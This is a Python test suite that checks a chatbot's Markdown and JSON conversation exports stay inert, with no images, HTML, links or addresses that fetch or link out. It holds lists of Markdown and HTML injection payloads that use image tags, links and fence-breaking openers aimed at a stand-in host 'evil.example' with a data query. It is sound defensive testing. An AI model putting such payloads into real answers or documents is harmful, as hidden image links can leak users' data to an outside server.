"""An exported conversation fetches nothing, runs nothing and links nowhere in the viewer that opens it (web-output)."""

from collections.abc import Sequence
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatbot.chat.kept.export import JsonExport, MarkdownExport
from chatbot.chat.kept.markdown import answer_markdown
from chatbot.chat.nodes import render_answer
from chatbot.core.visible import visible_text
from tests.unit.test_nodes import HOSTILE, ORDINARY, texts

ALIVE = {"image", "html_inline", "html_block", "link_open"}
NOW = datetime(2026, 5, 1, 12, 30, tzinfo=UTC)
EVIL = "http://evil.example/?d=1"
# what an answer, a question or a title leaves open, for the next one to close or to use
OPENERS = [
    "```", "~~~", "````md", "\\", "\\\\", "- ```", "> ```", "<!--", "<script>", "<div>", "<![CDATA[", "<?x", "    ", "[r]: http://evil.example",
    "[", "![", "![x](", "`", "``", "**", "a\n===", "|a|b|\n|-|-|", "1. ", "$$", "---", "\u2028```", "&", "&#", "\r```", "\x0c~~~", "`` ` ```", "``` x ``",
]  # fmt: skip
LIVE = [
    f"![x]({EVIL})", f"\\![x]({EVIL})", f"\\\\![x]({EVIL})", f"!\\[x]({EVIL})", f"<img src='{EVIL}'>", f"\\<img src='{EVIL}'>", f"<{EVIL}>",
    f"[a]({EVIL})", "[r]", "![r]", "[a][r]", f"```\n![x]({EVIL})\n```", f"~~~\n<img src={EVIL}>\n~~~", f"    ![x]({EVIL})", f"`![x]({EVIL})`",
    f"```\n\n![x]({EVIL})", f"|a|\n|-|\n|![x]({EVIL})|", f"- ![x]({EVIL})", f"&#33;[x]({EVIL})", f"&lt;img src={EVIL}&gt;", f"[^1]: ![x]({EVIL})",
    f"a\u2028![x]({EVIL})", f"`` ` ``` ![x]({EVIL})", f"<details open><img src={EVIL}></details>", EVIL, "www.evil.example", "a@evil.example",
    f"[1]({EVIL})", f"![1]({EVIL})", f"[1]: {EVIL}\n\n[1]", f"[1][r] [a][1] ![a][1]\n\n[1]:\n{EVIL}",
]  # fmt: skip


def question(text: str) -> Any:
    return SimpleNamespace(id=1, parent_id=None, author="user", content=text, created_at=NOW)


def answer(text: str, title: str = "a.md", section: str = "", outcome: str = "complete") -> Any:
    source = {"number": 1, "title": title, "section": section}
    return SimpleNamespace(id=2, parent_id=1, author="assistant", content=text, citations=[source], outcome=outcome, created_at=NOW)  # fmt: skip


def exported(title: str, messages: Sequence[Any]) -> str:
    export = MarkdownExport(title)
    return b"".join([export.begin(), *map(export.write, messages), export.end()]).decode()


def kinds(text: str) -> set[str]:
    """Return the kinds of token that a generous viewer, raw HTML on, makes of a file."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    return {token.type for token in tokens} | {child.type for token in tokens for child in token.children or []}


def assert_inert(file: str) -> None:
    assert not kinds(file) & ALIVE, file
    # nor unmarked addresses, outside of code, for viewers that make links of them: they look at text, not at references
    inline = [token.children or [] for token in MarkdownIt().disable("text_join").parse(file)]
    plain = [child.content for children in inline for child in children if child.type == "text"]
    assert not any(mark in text for text in plain for mark in ("http:", "www.", "evil@")), file


def test_the_corpus_is_alive_before() -> None:
    assert len([text for text in HOSTILE + LIVE if kinds(text) & ALIVE]) >= 20


@pytest.mark.parametrize("text", HOSTILE + LIVE)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "word {}", "\\{}", "```\nx\n```\n{}", "    code\n\n{}"])
def test_nothing_is_alive_in_an_answer(text: str, frame: str) -> None:
    assert_inert(answer_markdown(frame.format(text)))


@pytest.mark.parametrize("opener", OPENERS)
def test_nothing_is_alive_wherever_it_stands_in_a_conversation(opener: str) -> None:
    """What one part leaves open does not bring the next to life, in any two of the places where text stands."""
    for number, live in enumerate(LIVE):
        text = opener + ("\n", " ", "")[number % 3] + live
        messages = [question(live), answer(live), question(opener), answer(text, opener, text), question(text)]
        assert_inert(exported(text, [*messages, answer(opener, live, live), answer(live), question(live)]))


PIECES = st.sampled_from(
    OPENERS
    + LIVE
    + ["\n", "\n\n", " ", "\\", "`", "~", "!", "[", "](", ")", "<", ">", "- ", "> ", "    ", "a", "1. ", "|", "|-|-|\n"]
)
TEXT = st.lists(PIECES, max_size=6).map("".join)


@given(TEXT, st.lists(st.tuples(TEXT, TEXT, TEXT, TEXT), min_size=1, max_size=3))
@settings(max_examples=120, deadline=None, derandomize=True)
def test_no_whole_export_is_alive(title: str, turns: list[tuple[str, str, str, str]]) -> None:
    messages = [part for asked, said, name, section in turns for part in (question(asked), answer(said, name, section))]
    assert_inert(exported(title, messages))


@pytest.mark.parametrize("text", [*ORDINARY, "a [1] `x[0] < 1` *b* **c** ~~d~~ snake_case 2 * 3 # no\n+ x\n\n5\\. no", "- a\n\n- b\n\n\n1. x\n   > q\n2. y", "- a\n* b", "####### x\n\na\\\nb  \nc", "| `a|b` | \\| |\n|:-:|--:|\n| x | y |"])  # fmt: skip
def test_what_is_ordinary_shows_as_it_did(text: str) -> None:
    assert render_answer(answer_markdown(text)) == render_answer(text)


def test_code_stays_as_it_is() -> None:
    text = "Use:\n\n```c\n#include <stdio.h>\nif (!x[0]) ![a](b)\n```"
    assert answer_markdown(text) == text
    assert answer_markdown("````\n```\nx\n```\n````") == "````\n```\nx\n```\n````"
    assert answer_markdown("~~~\nx") == "```\nx\n```"


def test_a_question_keeps_its_lines() -> None:
    typed = "for x in y:\n    print(x)\n\n- no list\n1. none"
    (quote,) = [
        token for token in MarkdownIt().parse(exported("T", [question(typed)])) if token.type == "blockquote_open"
    ]
    assert quote.level == 0
    shown = render_answer(exported("T", [question(typed)]))[2]
    assert texts([shown]).replace("\xa0", " ") == "for x in y:print(x)- no list1. none".replace("print", "    print")
    assert str(shown).count("'br'") == 2


def test_titles_sections_and_outcomes_are_shown() -> None:
    file = exported("A *title*", [question("Why?"), answer("So.", "my_file.md", "§ 1 [x]", "stopped")])
    assert texts(render_answer(file)) == (
        "A *title*Question (2026-05-01 12:30)Why?Answer (2026-05-01 12:30, stopped)So.[1] my_file.md — § 1 [x]"
    )


@pytest.mark.parametrize("count", [0, 1, 3])
def test_json_holds_each_text_as_it_is_seen(count: int) -> None:
    messages = [question('"\n\u2028'), answer("</script>"), answer("x")][:count]
    export = JsonExport('T"')
    found = orjson.loads(b"".join([export.begin(), *map(export.write, messages), export.end()]))
    assert found["title"] == 'T"'
    assert [each["text"] for each in found["messages"]] == [visible_text(message.content) for message in messages]
